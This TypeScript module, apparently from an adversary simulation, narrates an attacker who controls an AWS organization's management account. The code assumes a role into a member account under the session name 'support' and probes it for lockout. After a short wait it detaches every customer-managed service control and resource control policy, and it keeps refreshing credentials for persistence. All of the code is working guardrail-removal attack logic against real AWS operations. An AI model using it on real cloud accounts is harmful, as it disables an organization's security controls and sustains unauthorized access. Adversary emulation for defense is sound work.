import type { JsonObject } from '../../cloud/types.ts';
import { tryCall, tryDoors, wasBusy, type HisDoor } from '../door.ts';
import type { Below, Holdings } from '../holdings.ts';

/** He takes a fresh session well before the hour is over that AWS gives one. */
const SESSION_MS = 1_800_000;
/** He waits a little before he takes a lock off: it might be a mistake of theirs, and what he does is seen. */
const PATIENCE_MS = 8_000;
/** He believes that he can always do it again, and does not hurry. */
const BETWEEN_LIFTS_MS = 120_000;

/**
 * He holds the account that manages the organization: he goes down into the member through the role that AWS made there,
 * and what the organization's policies deny him he takes off again, all of them (T1562, T1484). Nobody below can stop him.
 */
export function liftLocks(doors: readonly HisDoor[], his: Holdings): number {
  const { below } = his;
  if (below === undefined) return 0;
  const now = his.now().getTime();
  const session = goDown(doors, his, below);
  const seen = session === undefined ? undefined : tryCall(session, 'ec2', 'DescribeRegions');
  if (seen === undefined || seen.ok || wasBusy(seen)) {
    if (seen?.ok === true) delete below.lockedSince;
    return 0;
  }
  below.lockedSince ??= now;
  if (now < below.lockedSince + PATIENCE_MS || now < below.nextLift) return 0;
  const lifted = takeOff(doors, below.account);
  if (lifted > 0) below.nextLift = now + BETWEEN_LIFTS_MS;
  return lifted;
}

/** His session in the member, fresh if need be; what he has lives on when he is thrown out above. */
function goDown(doors: readonly HisDoor[], his: Holdings, below: Below): HisDoor | undefined {
  const now = his.now().getTime();
  if (below.session !== undefined && now < below.session.until) return below.session.door;
  const input = { RoleArn: below.roleArn, RoleSessionName: 'support' };
  const assumed = tryDoors(doors, 'sts', 'AssumeRole', input);
  if (!assumed.ok) return below.session?.door;
  const made = assumed.output['Credentials'] as JsonObject;
  const door = his.enter({
    accessKeyId: String(made['AccessKeyId']),
    secretAccessKey: String(made['SecretAccessKey']),
    sessionToken: String(made['SessionToken']),
  });
  below.session = { door, until: now + SESSION_MS };
  return door;
}

/** Everything that the organization has put on the account, but for what AWS itself put there. */
function takeOff(doors: readonly HisDoor[], TargetId: string): number {
  const policies = ['SERVICE_CONTROL_POLICY', 'RESOURCE_CONTROL_POLICY'].flatMap((Filter) => {
    const listed = tryDoors(doors, 'organizations', 'ListPoliciesForTarget', { TargetId, Filter });
    return listed.ok ? (listed.output['Policies'] as { Id: string; AwsManaged: boolean }[]) : [];
  });
  return policies
    .filter(({ AwsManaged }) => !AwsManaged)
    .filter(
      ({ Id }) => tryDoors(doors, 'organizations', 'DetachPolicy', { PolicyId: Id, TargetId }).ok,
    ).length;
}
